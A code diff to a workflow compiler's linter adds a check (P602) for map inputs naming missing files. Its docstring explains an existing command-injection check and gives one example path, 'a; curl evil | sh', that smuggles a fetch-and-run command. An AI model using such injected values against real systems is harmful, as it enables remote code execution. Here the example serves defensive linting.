@@ -4,6 +4,8 @@ P601, work-item data spliced into a shell command outside quotes: a map item or 
 comes from data (a linter's report, a file list, an issue tracker), and `rm ${item.path}` lets a
 path such as `a; curl evil | sh` run as a command. The safe form passes the item through the
 environment, which the runtime sets for every item (`"$PRODIGY_ITEM"`), or at least quotes it.
+
+P602, a map input that names a missing file (`lint_input.py`).
 """
 
 from __future__ import annotations
@@ -13,6 +15,7 @@ from collections.abc import Iterator
 
 from prodigy.compiler.commands.foreach import Foreach
 from prodigy.compiler.commands.shell import Shell
+from prodigy.compiler.lint_input import missing_input
 from prodigy.compiler.model import Step, Text, substeps
 from prodigy.compiler.model_workflow import Workflow, walk_steps
 from prodigy.compiler.source import SourceMap
@@ -26,6 +29,7 @@ def lint(workflow: Workflow, source_map: SourceMap) -> list[Diagnostic]:
     for step in _fed_by_data(workflow):
         if isinstance(step.command, Shell):
             found.extend(_unquoted_items(step.command.command, source_map))
+    found.extend(missing_input(workflow, source_map))
     return found
 
 
